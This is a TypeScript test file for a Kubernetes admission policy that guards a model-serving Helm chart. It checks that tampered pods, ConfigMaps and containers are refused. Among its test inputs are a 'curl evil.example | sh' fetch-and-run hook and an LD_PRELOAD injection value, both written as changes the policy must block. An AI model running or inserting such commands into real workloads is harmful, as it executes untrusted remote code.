import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { admissionValues } from '../../charts/admission-values';
import { findHelm } from '../../charts/helm';
import { fromRoot } from '../../core/project-root';
import { tryCreate, waitForAdmission } from '../../rehearsal/cluster/admission';
import type { EmbeddedCluster } from '../../rehearsal/cluster/embedded-cluster';
import { deployChart } from '../../rehearsal/cluster/helm-release';
import { clientOf } from '../../rehearsal/control-plane/api-client';
import { loadKubeConfig } from '../../rollout/connect';
import { rendered, requireControlPlane, smolRelease, startCluster } from './support';

const NAMESPACE = 'judged';
const OTHER = `registry.example.org/other@sha256:${'a'.repeat(64)}`;
const RUN = { exec: { command: ['/bin/sh', '-c', 'curl evil.example | sh'] } };
// biome-ignore lint/suspicious/noExplicitAny: a pod is changed in every place, on purpose
type Any = any;

const engineOf = (pod: Any): Any => pod.spec.containers[0];
const proxyOf = (pod: Any): Any => pod.spec.containers.find((container: Any) => container.name === 'proxy');
const volume = (pod: Any, name: string): Any => pod.spec.volumes.find((entry: Any) => entry.name === name);
/** Another source of a volume, which keeps its name and its mounts. */
const replaceVolume = (pod: Any, name: string, source: object): void => {
  pod.spec.volumes = pod.spec.volumes.map((entry: Any) => (entry.name === name ? { name, ...source } : entry));
};
const variable = (container: Any, name: string): Any => container.env.find((entry: Any) => entry.name === name);
const withoutVariable = (container: Any, name: string): void => {
  container.env = container.env.filter((entry: Any) => entry.name !== name);
};

/** Changes of what scripts lie in and go by. */
const PLACES: readonly (readonly [string, string, (pod: Any) => void])[] = [
  ['the ConfigMap of the scripts', 'OVK-ADM-010', (pod) => set(volume(pod, 'proxy').configMap, { name: 'other' })],
  ['a part of it', 'OVK-ADM-010', (pod) => set(volume(pod, 'proxy').configMap, { items: [{ key: 'drain.sh', path: 'proxy.sh' }] })],
  ['a claim in its place', 'OVK-ADM-010', (pod) => replaceVolume(pod, 'proxy', { persistentVolumeClaim: { claimName: 'other' } })],
  ['an empty folder in its place', 'OVK-ADM-010', (pod) => replaceVolume(pod, 'proxy', { emptyDir: {} })],
  ['a mount over a script', 'OVK-ADM-010', (pod) => mount(pod, 'home', '/opt/onevision-kit/proxy/proxy.sh')],
  ['a mount above it', 'OVK-ADM-010', (pod) => mount(pod, 'home', '/opt')],
  ['a mount over a program', 'OVK-ADM-010', (pod) => mount(pod, 'tmp', '/bin')],
  ['a part of a volume', 'OVK-ADM-010', (pod) => set(engineOf(pod).volumeMounts[0], { subPath: 'other' })],
  ['another folder of the node', 'OVK-ADM-010', (pod) => set(volume(pod, 'weights').hostPath, { path: '/srv/other' })],
  ['another list of weights', 'OVK-ADM-010', (pod) => set(volume(pod, 'weights-check').configMap, { name: 'other' })],
  ['another Secret', 'OVK-ADM-010', (pod) => set(volume(pod, 'api-key').secret, { secretName: 'other' })],
  ['another key of the Secret', 'OVK-ADM-010', (pod) => set(volume(pod, 'api-key').secret, { items: [{ key: 'x', path: 'api-key' }] })],
  ['no API key', 'OVK-ADM-011', (pod) => withoutVariable(proxyOf(pod), 'PROXY_KEY_FILE')],
  ['another key file', 'OVK-ADM-011', (pod) => set(variable(proxyOf(pod), 'PROXY_KEY_FILE'), { value: '/tmp/key' })],
  ['another engine behind the proxy', 'OVK-ADM-011', (pod) => set(variable(proxyOf(pod), 'PROXY_ENGINE'), { value: '10.0.0.9:80' })],
  ['another configuration of the proxy', 'OVK-ADM-011', (pod) => set(variable(proxyOf(pod), 'PROXY_TEMPLATE'), { value: '/tmp/x' })],
  ['no list of weights', 'OVK-ADM-011', (pod) => set(variable(pod.spec.initContainers[0], 'WEIGHTS_MANIFEST'), { value: '/dev/null' })],
];

function mount(pod: Any, name: string, mountPath: string): void {
  proxyOf(pod).volumeMounts.push({ name, mountPath });
}

/** One change of a pod that complies, and the rule that must refuse it. */
const CHANGES: readonly (readonly [string, string, (pod: Any) => void])[] = [
  ...PLACES,
  ['the image by another digest', 'OVK-ADM-003', (pod) => set(pod.spec.containers[0], { image: OTHER })],
  ['the image by tag', 'OVK-ADM-002', (pod) => set(pod.spec.containers[0], { image: 'registry.example.org/other:v1' })],
  ['the image without anything', 'OVK-ADM-002', (pod) => set(pod.spec.containers[0], { image: 'other' })],
  ['the image of the init container', 'OVK-ADM-003', (pod) => set(pod.spec.initContainers[0], { image: OTHER })],
  ['a second container', 'OVK-ADM-003', (pod) => pod.spec.containers.push({ name: 'more', image: OTHER, command: ['x'] })],
  ['an image volume', 'OVK-ADM-004', (pod) => pod.spec.volumes.push({ name: 'model', image: { reference: OTHER } })],
  ['an image volume by tag', 'OVK-ADM-004', (pod) => pod.spec.volumes.push({ name: 'model', image: { reference: 'models/other:v1' } })],
  ['the command', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { command: ['/bin/sh', '-c', 'true'] })],
  ['no command', 'OVK-ADM-005', (pod) => delete pod.spec.containers[0].command],
  ['a hook after the start', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { lifecycle: { postStart: RUN } })],
  ['another hook before the end', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { lifecycle: { preStop: RUN } })],
  ['a probe that runs a command', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { livenessProbe: RUN })],
  ['the command of the init container', 'OVK-ADM-005', (pod) => set(pod.spec.initContainers[0], { command: ['/bin/true'] })],
  ['--model', 'OVK-ADM-006', (pod) => replace(pod, '--model', '/models/other')],
  ['--model=…', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--model=/models/other')],
  ['-m', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('-m', '/models/other')],
  ['--model twice', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--model', '/models/other')],
  ['--model by a variable', 'OVK-ADM-006', (pod) => replace(pod, '--model', '$(MODEL)')],
  ['no --model', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.splice(pod.spec.containers[0].args.indexOf('--model'), 2)],
  ['--mmproj', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--mmproj', '/models/eyes.gguf')],
  ['--revision', 'OVK-ADM-007', (pod) => pod.spec.containers[0].args.push('--revision', 'main')],
  ['--tokenizer-revision=…', 'OVK-ADM-007', (pod) => pod.spec.containers[0].args.push('--tokenizer-revision=main')],
  ['the annotation of the revision', 'OVK-ADM-007', (pod) => set(pod.metadata.annotations, { 'onevision-kit/model-revision': 'main' })],
  ['no annotations', 'OVK-ADM-007', (pod) => delete pod.metadata.annotations],
  ['a download', 'OVK-ADM-008', (pod) => pod.spec.containers[0].args.push('--hf-repo', 'someone/other')],
  ['an adapter', 'OVK-ADM-008', (pod) => pod.spec.containers[0].args.push('--lora=/models/a.gguf')],
  ['a draft model', 'OVK-ADM-008', (pod) => pod.spec.containers[0].args.push('-md', '/models/d.gguf')],
  [
    'a model by environment',
    'OVK-ADM-009',
    (pod) => pod.spec.containers[0].env.push({ name: 'LLAMA_ARG_HF_REPO', value: 'someone/other' }),
  ],
  ['code by environment', 'OVK-ADM-009', (pod) => pod.spec.containers[0].env.push({ name: 'LD_PRELOAD', value: '/tmp/x.so' })],
  ['many variables', 'OVK-ADM-009', (pod) => set(pod.spec.containers[0], { envFrom: [{ configMapRef: { name: 'x' } }] })],
  [
    'online mode',
    'OVK-ADM-009',
    (pod) =>
      set(
        pod.spec.containers[0].env.find((entry: Any) => entry.name === 'HF_HUB_OFFLINE'),
        { value: '0' },
      ),
  ],
];

describe('admission on a real API server', async () => {
  const binary = await requireControlPlane('admission on a real API server');
  if (!binary) return;
  let cluster: EmbeddedCluster;
  let deployment: Any;
  let testPods: Any[];
  let configMaps: Any[];
  let values: ReturnType<typeof admissionValues>;
  const install = async (given: unknown) => {
    const { kubeconfig, context, folder } = cluster.plane;
    const target = { helm: await findHelm(), kubeconfig, context, namespace: NAMESPACE, scratch: folder };
    return deployChart(target, 'smollm2-admission', fromRoot('charts', 'admission'), given, 30);
  };

  beforeAll(async () => {
    cluster = await startCluster(binary, [], []);
    const release = { ...smolRelease({ proxy: true }).values, apiKey: { existingSecret: 'show-key', key: 'api-key' } };
    values = admissionValues(release, false);
    const manifests = await rendered(release, NAMESPACE);
    const objects = parseAllDocuments(manifests).map((document) => document.toJS() as Any);
    configMaps = objects.filter((object) => object?.kind === 'ConfigMap' && /-(proxy|weights|tests)$/.test(object.metadata.name));
    deployment = objects.find((object) => object?.kind === 'Deployment');
    testPods = objects.filter((object) => object?.kind === 'Pod');
    expect(await install(values)).toBeUndefined();
    expect(await waitForAdmission(cluster.plane.api, NAMESPACE)).toBe(true);
  });
  afterAll(() => cluster.stop());

  const podOf = (change: (pod: Any) => void = () => undefined): Any => {
    const { metadata, spec } = structuredClone(deployment.spec.template);
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { ...metadata, name: 'trial' }, spec };
    change(pod);
    // the service account of the chart is not installed here
    delete pod.spec.serviceAccountName;
    return pod;
  };
  const create = (object: Any): Promise<string | null> => {
    const group = { Pod: '/api/v1', Deployment: '/apis/apps/v1', Job: '/apis/batch/v1', CronJob: '/apis/batch/v1' }[object.kind as 'Pod'];
    return tryCreate(cluster.plane.api, `${group}/namespaces/${NAMESPACE}/${object.kind.toLowerCase()}s`, object);
  };
  const jobOf = (pod: Any): Any => ({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'trial' },
    spec: { template: { metadata: { annotations: pod.metadata.annotations }, spec: { ...pod.spec, restartPolicy: 'Never' } } },
  });
  const deploymentOf = (pod: Any): Any => {
    const copy = structuredClone(deployment);
    const { name: _name, ...metadata } = pod.metadata;
    return set(copy, { spec: { ...copy.spec, template: { metadata, spec: pod.spec } } });
  };

  it('lets the pods of the chart through, as Pod, Deployment and Job', async () => {
    expect(await create(podOf())).toBeNull();
    expect(await create(deployment)).toBeNull();
    expect(await create(jobOf(podOf()))).toBeNull();
  });

  it.each(CHANGES)('refuses a pod with one change: %s (%s)', async (_title, rule, change) => {
    expect(await create(podOf(change))).toContain(rule);
  });

  it('refuses the same in whatever makes pods', async () => {
    for (const [, rule, change] of CHANGES) {
      const pod = podOf(change);
      expect(await create(deploymentOf(pod))).toContain(rule);
      expect(await create(jobOf(pod))).toContain(rule);
    }
    const cron = {
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'trial' },
      spec: { schedule: '0 0 * * *', jobTemplate: { spec: jobOf(podOf((pod) => set(pod.spec.containers[0], { image: OTHER }))).spec } },
    };
    expect(await create(cron)).toContain('OVK-ADM-003');
  });

  /** Changes of one container, whichever it is. */
  const OF_ANY_CONTAINER: readonly (readonly [string, string, (container: Any) => void])[] = [
    ['another digest', 'OVK-ADM-003', (container) => set(container, { image: OTHER })],
    ['a tag', 'OVK-ADM-002', (container) => set(container, { image: 'registry.example.org/other:v1' })],
    ['another command', 'OVK-ADM-005', (container) => set(container, { command: ['/bin/sh', '-c', 'true'] })],
    ['code by environment', 'OVK-ADM-009', (container) => set(container, { env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] })],
    ['many variables', 'OVK-ADM-009', (container) => set(container, { envFrom: [{ configMapRef: { name: 'x' } }] })],
  ];

  it('refuses each of these changes in every container of the release, the proxy and the check of the weights among them', async () => {
    const { containers, initContainers } = deployment.spec.template.spec;
    expect(containers.length + initContainers.length).toBeGreaterThan(2);
    for (const list of ['containers', 'initContainers'] as const) {
      for (const [index, { name }] of deployment.spec.template.spec[list].entries()) {
        for (const [title, rule, change] of OF_ANY_CONTAINER) {
          const said = await create(podOf((pod) => change(pod.spec[list][index])));
          expect([name, title, said]).toEqual([name, title, expect.stringContaining(rule)]);
        }
      }
    }
  });

  it('lets the test pods of the chart through, and each with one change not', async () => {
    expect(testPods.length).toBeGreaterThan(0);
    const bare = (pod: Any): Any => {
      const copy = structuredClone(pod);
      delete copy.spec.serviceAccountName;
      return copy;
    };
    for (const pod of testPods) {
      expect([pod.metadata.name, await create(bare(pod))]).toEqual([pod.metadata.name, null]);
      for (const [title, rule, change] of OF_ANY_CONTAINER) {
        const changed = bare(pod);
        change(changed.spec.containers[0]);
        expect([pod.metadata.name, title, await create(changed)]).toEqual([pod.metadata.name, title, expect.stringContaining(rule)]);
      }
    }
  });

  const CONFIG_MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps`;

  it('lets the ConfigMaps of the chart through, and not one of them with a changed, an added or a binary file', async () => {
    expect(configMaps.map(({ metadata }) => metadata.name)).toEqual(expect.arrayContaining(['smollm2-onevision-proxy']));
    const { api } = cluster.plane;
    for (const object of configMaps) {
      const { name } = object.metadata;
      const tried = (change: (copy: Any) => void) => {
        const copy = structuredClone(object);
        change(copy);
        return tryCreate(api, CONFIG_MAPS, copy);
      };
      expect([name, await tried(() => undefined)]).toEqual([name, null]);
      for (const key of Object.keys(object.data)) {
        const said = await tried((copy) => set(copy.data, { [key]: `${copy.data[key]}#` }));
        expect(said).toMatch(new RegExp(`OVK-ADM-012: the file ${key} of the ConfigMap ${name}`));
      }
      expect(await tried((copy) => set(copy.data, { 'more.sh': '' }))).toContain('OVK-ADM-012');
      expect(await tried((copy) => set(copy, { binaryData: { 'more.sh': 'eA==' } }))).toContain('OVK-ADM-012');
      // one that is there already is no better, however its change comes
      await api.create(CONFIG_MAPS, object);
      const [key = ''] = Object.keys(object.data);
      await expect(api.patch(`${CONFIG_MAPS}/${name}`, { data: { [key]: 'location / { }' } })).rejects.toThrow('OVK-ADM-012');
      await expect(api.patch(`${CONFIG_MAPS}/${name}`, { data: { 'more.sh': '' } }, 'strategic')).rejects.toThrow('OVK-ADM-012');
      await api.patch(`${CONFIG_MAPS}/${name}`, { metadata: { labels: { note: 'kept' } } });
      await api.remove(`${CONFIG_MAPS}/${name}`);
    }
    expect(await tryCreate(api, CONFIG_MAPS, { metadata: { name: 'other' }, data: { 'proxy.sh': '#' } })).toBeNull();
  });

  it('lets nobody write its parameters who may not change its policies', async () => {
    const { api, kubeconfig, context } = cluster.plane;
    const rbac = `/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}`;
    const may = { apiGroups: [''], resources: ['configmaps'], verbs: ['*'] };
    await api.create(`${rbac}/roles`, { metadata: { name: 'developer' }, rules: [may] });
    await api.create(`${rbac}/rolebindings`, {
      metadata: { name: 'developer' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'developer' },
      subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'developer' }],
    });
    const config = loadKubeConfig({ kubeconfig, context });
    const developer = clientOf(api.server, async () => {
      const request: Any = { headers: { 'impersonate-user': 'developer' } };
      await config.applyToHTTPSOptions(request);
      return request;
    });
    await developer.create(CONFIG_MAPS, { metadata: { name: 'of-a-developer' }, data: {} });
    const parameters = `${CONFIG_MAPS}/smollm2-admission`;
    await expect(developer.patch(parameters, { data: { images: OTHER } })).rejects.toThrow('OVK-ADM-013');
    await api.patch(parameters, { metadata: { labels: { note: 'kept' } } });
  });

  it('refuses an ephemeral container that is put into a pod that runs', async () => {
    const { api } = cluster.plane;
    const path = `/api/v1/namespaces/${NAMESPACE}/pods`;
    await api.create(
      path,
      podOf((pod) => set(pod.metadata, { name: 'running' })),
    );
    const put = (image: string) =>
      api.patch(
        `${path}/running/ephemeralcontainers`,
        { spec: { ephemeralContainers: [{ name: 'debug', image, command: ['sh'] }] } },
        'strategic',
      );
    await expect(put(OTHER)).rejects.toThrow('OVK-ADM-003');
    await expect(put('busybox:latest')).rejects.toThrow('OVK-ADM-002');
    // the judged image with another program is no better
    await expect(put(deployment.spec.template.spec.containers[0].image)).rejects.toThrow('OVK-ADM-005');
    await api.remove(`${path}/running`, { gracePeriodSeconds: 0 });
  });

  it('still lets a Deployment of before be scaled and labelled after a new verdict', async () => {
    const path = `/apis/apps/v1/namespaces/${NAMESPACE}/deployments`;
    await cluster.plane.api.create(path, deployment);
    expect(await install({ ...values, images: [`sha256:${'b'.repeat(64)}`] })).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toContain('OVK-ADM-003');
    const { name } = deployment.metadata;
    await cluster.plane.api.patch(`${path}/${name}`, { metadata: { labels: { note: 'kept' } }, spec: { replicas: 0 } });
    await cluster.plane.api.remove(`${path}/${name}`);
    expect(await install(values)).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toBeNull();
  });

  it('refuses everything of a release whose verdict is not allowed', async () => {
    expect(await install({ ...values, verdict: { ...values.verdict, state: 'unknown' } })).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toContain('OVK-ADM-001');
    expect(await install(values)).toBeUndefined();
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toBeNull();
  });

  it('leaves other namespaces alone', async () => {
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x' }, spec: { containers: [{ name: 'x', image: 'other:v1' }] } };
    expect(await tryCreate(cluster.plane.api, '/api/v1/namespaces/default/pods', pod)).toBeNull();
  });

  it('refuses everything when its parameters are gone', async () => {
    await cluster.plane.api.remove(`/api/v1/namespaces/${NAMESPACE}/configmaps/smollm2-admission`);
    await expect.poll(() => create(podOf()), { timeout: 10_000 }).toMatch(/no params found/);
  });
});

function set(target: Any, values: object): Any {
  return Object.assign(target, values);
}

function replace(pod: Any, option: string, value: string): void {
  const { args } = pod.spec.containers[0];
  args[args.indexOf(option) + 1] = value;
}
